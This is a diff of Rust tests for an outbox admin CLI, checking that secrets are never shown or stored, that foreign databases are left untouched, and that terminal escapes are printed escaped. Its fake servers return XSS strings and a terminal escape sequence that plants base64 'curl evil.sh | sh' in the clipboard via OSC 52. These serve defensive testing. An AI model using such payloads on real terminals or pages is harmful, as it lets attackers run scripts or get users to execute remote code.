@@ -203,3 +203,222 @@ fn every_command_and_tail_on_redis_and_no_password_shown() {
     assert_eq!(code, 2);
     assert!(!err.contains("hunter2"), "{err}");
 }
+
+/// A server whose `/echo` refuses with a 400 that echoes the request's
+/// `Authorization` and query back among HTML and script, and whose
+/// `/x<…>` path fails the same way.
+fn echoing_server() -> Server {
+    Server::with_handler(|req, _| {
+        let auth = req
+            .headers
+            .get("authorization")
+            .cloned()
+            .unwrap_or_default();
+        Reply::text(
+            400,
+            "text/html",
+            &format!(
+                "<script>alert('pwn')</script><img src=x onerror=alert(1)>\"' auth={auth} q={:?}",
+                req.query
+            ),
+        )
+    })
+}
+
+/// An outbox file with one dead job whose request carried, added at
+/// delivery as a secret header (an outbox stores none),
+/// `Authorization: Bearer auth-SECRET-1` and whose server echoed it
+/// back; its id. (A hook's plain `header("Authorization")` is not hidden:
+/// see `tests/hooks.rs`.)
+fn seeded_with_secrets(db: &std::path::Path, server: &Server) -> i64 {
+    let pool = Pool::builder()
+        .workers(1)
+        .before_attempt(|a: &mut reqpool::Attempt<'_>| {
+            a.secret_header("Authorization", "Bearer auth-SECRET-1");
+            Ok(())
+        })
+        .build()
+        .unwrap();
+    let outbox = Outbox::open(db, &pool).unwrap();
+    let id = outbox
+        .enqueue(
+            pool.post(&format!(
+                "{}?page=<b>1</b>",
+                server.url("/echo/<i>x</i>\"'")
+            ))
+            .json_body(&serde_json::json!({"i": 1})),
+        )
+        .unwrap();
+    assert_eq!(outbox.flush_timeout(LIMIT), 0);
+    assert_eq!(outbox.stats().unwrap().dead, 1);
+    id.0
+}
+
+#[test]
+fn show_and_dead_print_no_secret_a_server_echoed() {
+    let dir = TempDir::new("admin-secrets");
+    let db = dir.file("calls.db");
+    let server = echoing_server();
+    // URL credentials and a secret query are refused at enqueue.
+    {
+        let pool = Pool::new(1);
+        let outbox = Outbox::open(&db, &pool).unwrap();
+        let base = server.url("/echo");
+        let hostport = base
+            .trim_start_matches("http://")
+            .split('/')
+            .next()
+            .unwrap();
+        for url in [
+            format!("http://user:pw-SECRET-2@{hostport}/echo"),
+            format!("{base}?token=tok-SECRET-3"),
+        ] {
+            let e = outbox.enqueue(pool.post(&url).body("{}")).unwrap_err();
+            let shown = format!("{e} {e:?}");
+            assert!(!shown.contains("SECRET"), "{shown}");
+        }
+    }
+    let id = seeded_with_secrets(&db, &server);
+    let path = db.to_str().unwrap();
+    for args in [
+        vec!["--file", path, "dead"],
+        vec!["--file", path, "show", &id.to_string()],
+    ] {
+        let (code, out, err) = cli(&args);
+        assert_eq!(code, 0, "{args:?}: {err}");
+        assert!(out.contains(&id.to_string()), "{args:?}: {out}");
+        assert!(
+            !out.contains("SECRET") && !err.contains("SECRET"),
+            "{args:?}: {out}{err}"
+        );
+    }
+    // Nor is it in the file.
+    let bytes = std::fs::read(&db).unwrap();
+    let text = String::from_utf8_lossy(&bytes);
+    assert!(!text.contains("auth-SECRET"), "the secret is in the file");
+}
+
+#[test]
+fn stores_that_cannot_be_used_are_code_3_and_left_as_they_were() {
+    let dir = TempDir::new("admin-codes");
+    // An empty file: SQLite would take it for a new database.
+    let empty = dir.file("empty.db");
+    std::fs::write(&empty, b"").unwrap();
+    let (code, _, err) = cli(&["--file", empty.to_str().unwrap(), "stats"]);
+    assert_eq!(code, 3, "an empty file: {err}");
+    assert_eq!(
+        std::fs::read(&empty).unwrap(),
+        b"",
+        "the empty file was written"
+    );
+    // Another program's SQLite database.
+    let foreign = dir.file("app.db");
+    let made = std::process::Command::new("python3")
+        .args([
+            "-c",
+            "import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); c.execute('create table users(name text)'); c.execute(\"insert into users values('ann')\"); c.commit()",
+            foreign.to_str().unwrap(),
+        ])
+        .status()
+        .unwrap();
+    assert!(made.success());
+    let before = std::fs::read(&foreign).unwrap();
+    for cmd in ["stats", "dead"] {
+        let (code, _, err) = cli(&["--file", foreign.to_str().unwrap(), cmd]);
+        assert_eq!(code, 3, "another program's database, {cmd}: {err}");
+    }
+    assert_eq!(
+        std::fs::read(&foreign).unwrap(),
+        before,
+        "the database was written"
+    );
+    // A Redis where nothing listens, with a password: code 3, in bounded
+    // time, the password not shown.
+    let port = {
+        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        l.local_addr().unwrap().port()
+    };
+    let url = format!("redis://:pw-SECRET-4@127.0.0.1:{port}/");
+    for cmd in ["stats", "dead"] {
+        let (code, out, err) = cli(&["--redis", &url, "--stream", "s", cmd]);
+        assert_eq!(code, 3, "{cmd}: {err}");
+        assert!(
+            !out.contains("SECRET") && !err.contains("SECRET"),
+            "{out}{err}"
+        );
+    }
+}
+
+#[test]
+fn a_servers_terminal_escapes_are_not_printed_raw() {
+    // A dead job whose server answered with terminal control sequences
+    // (a colour, a window title, OSC 52 that writes the clipboard, a
+    // backspace run that hides text): `dead`, `show` and `tail` print
+    // them escaped, never as control characters.
+    let dir = TempDir::new("admin-escapes");
+    let db = dir.file("calls.db");
+    let server = Server::with_handler(|_, _| {
+        Reply::text(
+            400,
+            "text/plain",
+            "\u{1b}[31mRED\u{1b}]0;pwned\u{7}\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}hidden\u{8}\u{8}\u{8}\u{9b}2J",
+        )
+    });
+    let id = {
+        let pool = Pool::new(1);
+        let outbox = Outbox::open(&db, &pool).unwrap();
+        let id = outbox
+            .enqueue(pool.post(&server.url("/esc")).body("{}"))
+            .unwrap();
+        assert_eq!(outbox.flush_timeout(LIMIT), 0);
+        id.0
+    };
+    let path = db.to_str().unwrap();
+    for args in [
+        vec!["--file", path, "dead"],
+        vec!["--file", path, "show", &id.to_string()],
+    ] {
+        let (code, out, err) = cli(&args);
+        assert_eq!(code, 0, "{err}");
+        let raw: Vec<char> = out
+            .chars()
+            .filter(|c| c.is_control() && *c != '\n' && *c != '\t')
+            .collect();
+        assert!(raw.is_empty(), "{args:?} printed {raw:?}: {out:?}");
+    }
+}
+
+#[test]
+#[ignore = "fails: on another program's Redis stream, the look-only stats and dead create a consumer group (reqpool) in it and exit 0 (strings and lists are refused with code 3); fix belongs in src/outbox/redis/"]
+fn a_redis_key_that_is_not_an_outbox_is_code_3_and_left_as_it_was() {
+    let Some(redis) = RedisServer::start() else {
+        return;
+    };
+    let port = redis.port.to_string();
+    let rcli = |args: &[&str]| -> String {
+        let out = Command::new("redis-cli")
+            .args(["-p", &port])
+            .args(args)
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&out.stdout).trim().to_string()
+    };
+    // Another program's keys under the names an outbox would use: a
+    // string, a list, a stream of other entries.
+    rcli(&["SET", "notes", "keep me"]);
+    rcli(&["RPUSH", "tasks", "a", "b"]);
+    rcli(&["XADD", "events", "*", "user", "ann"]);
+    let url = redis.url();
+    for stream in ["notes", "tasks", "events"] {
+        let before = rcli(&["DUMP", stream]);
+        for cmd in ["stats", "dead"] {
+            let (code, out, err) = cli(&["--redis", &url, "--stream", stream, cmd]);
+            let groups = rcli(&["XINFO", "GROUPS", stream]);
+            assert_eq!(
+                code, 3,
+                "{stream} {cmd}: {out}{err}; its groups now: {groups:?}"
+            );
+        }
+        assert_eq!(rcli(&["DUMP", stream]), before, "{stream} was changed");
+    }
+}
